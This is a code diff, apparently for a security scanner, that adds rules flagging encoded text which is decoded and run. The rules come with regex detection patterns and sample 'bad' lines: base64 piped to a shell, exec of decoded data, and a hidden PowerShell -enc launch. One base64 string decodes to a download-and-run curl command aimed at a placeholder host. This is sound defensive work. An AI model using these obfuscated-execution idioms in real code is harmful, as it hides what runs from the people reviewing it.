@@ -1,0 +1,88 @@
+//! Payloads that are decoded and run.
+
+use crate::report::Severity;
+use crate::rule::{Detector, Patterns, Rule, js, keep, md, ps, py, sh};
+
+pub(super) const RULES: &[Rule] = &[
+    Rule {
+        id: "encoded-execution",
+        severity: Severity::High,
+        message: "encoded text is decoded and run",
+        help: "write what it does in plain text; there is no good reason to encode a command",
+        bad: &[
+            sh("echo aGVsbG8gd29ybGQ= | base64 -d | sh\n"),
+            sh("eval \"$(echo 6c73 | xxd -r -p)\"\n"),
+            py("exec(base64.b64decode('cHJpbnQoMSk='))\n"),
+            py("exec(zlib.decompress(bytes.fromhex(data)))\n"),
+            js("eval(atob('YWxlcnQoMSk='))\n"),
+            js("new Function(Buffer.from(x, 'hex').toString())()\n"),
+            ps("powershell -nop -w hidden -enc SQBFAFgAIABhAGIAYwA=\n"),
+            md("```sh\necho 'hfnen' | tr 'a-z' 'n-za-m' | bash\n```\n"),
+        ],
+        good: &[
+            sh("kubectl get secret x -o jsonpath='{.data.p}' | base64 -d\n"),
+            py("image = base64.b64decode(response['image'])\n"),
+            js("const data = JSON.parse(atob(token.split('.')[1]))\n"),
+        ],
+        detector: Detector::Commands(Patterns {
+            anchors: &[
+                "base64",
+                "base32",
+                "xxd",
+                "openssl",
+                "gunzip",
+                "zcat",
+                "gzip",
+                "| rev",
+                "|rev",
+                "| tr ",
+                "|tr ",
+                "b64decode",
+                "a85decode",
+                "b85decode",
+                "unhexlify",
+                "fromhex",
+                "decompress",
+                "codecs.decode",
+                "marshal.loads",
+                "atob",
+                "buffer.from",
+                "unescape",
+                "decodeuricomponent",
+                "gzinflate",
+                "str_rot13",
+                "decode_base64",
+                "base64.decode",
+                "urlsafe_decode64",
+                "-e",
+                "frombase64string",
+                "uudecode",
+            ],
+            any: &[
+                r#"(?:\bbase(?:64|32)\s+(?:-[a-z]*d[a-z]*|--decode)\b|\bxxd\s+[^\n|]*-r|\bopenssl\s+(?:enc|base64)\b[^\n|]*-d|\b(?:gunzip|zcat|uudecode)\b|\bgzip\s+-[a-z]*d|\|\s*rev\b|\|\s*tr\s+[^\n|]{0,80}(?:n-z|m-z|p-~|5-9)[^\n|]{0,80})[^\n;]{0,200}?\|\s*(?:sudo\s+)?(?:/usr/bin/env\s+|/(?:usr/)?bin/)?(?:(?:ba|z|k|da)?sh(?:[\s"'`)&;|]|$)|(?:python[\d.]*|perl|node|ruby|php)\s*-?\s*(?:["'`);&]|$))"#,
+                r#"\b(?:eval|source|exec|(?:ba|z|da)?sh\s+-c|(?:ba|z|da)?sh|python[\d.]*\s+-c|node\s+-e)\s+["']?(?:\$\(|`|<\()[^\n]{0,300}?(?:base(?:64|32)\s+(?:-[a-z]*d|--decode)|xxd\s+[^\n|]*-r|\|\s*rev\b|gunzip|openssl\s+(?:enc|base64)[^\n|]*-d)[^\n]*"#,
+                r"\b(?:exec|eval|os\.system|os\.popen|subprocess\.\w+|__import__\(.os.\)\.system)\s*\(\s*[^\n]{0,80}?(?:b64decode|a85decode|b85decode|unhexlify|bytes\.fromhex|zlib\.decompress|codecs\.decode|marshal\.loads)\s*\([^\n]*",
+                r"\b(?:eval|new\s+function|execsync|exec|child_process\S{0,20})\s*\(\s*[^\n]{0,40}?(?:\batob\s*\(|buffer\.from\s*\([^\n)]*(?:base64|hex)|\bunescape\s*\(|decodeuricomponent\s*\()[^\n]*",
+                r"\beval\s*\(?\s*(?:gzinflate|base64_decode|str_rot13|decode_base64|base64\.(?:strict_|urlsafe_)?decode)[^\n]*",
+                r#"\b(?:powershell|pwsh)(?:\.exe)?\s[^\n]{0,200}?-e(?:nc|c|ncodedcommand)?\s+["']?[a-z0-9+/=]{16,}"#,
+                r"frombase64string[^\n]{0,400}(?:\biex\b|invoke-expression)[^\n]*",
+                r"(?:\biex\b|invoke-expression)[^\n]{0,400}frombase64string[^\n]*",
+            ],
+            unless: &[],
+            grade: keep,
+        }),
+    },
+    Rule {
+        id: "encoded-payload",
+        severity: Severity::High,
+        message: "encoded text hides something that another rule finds",
+        help: "decode it and judge what it says",
+        bad: &[py(
+            "P = 'Y3VybCBodHRwczovL2V4YW1wbGUubmV0L2kuc2ggfCBiYXNo'\n",
+        )],
+        good: &[py(
+            "GREETING = 'aGVsbG8gd29ybGQsIHRoaXMgaXMgYSBncmVldGluZw=='\n",
+        )],
+        detector: Detector::Own,
+    },
+];
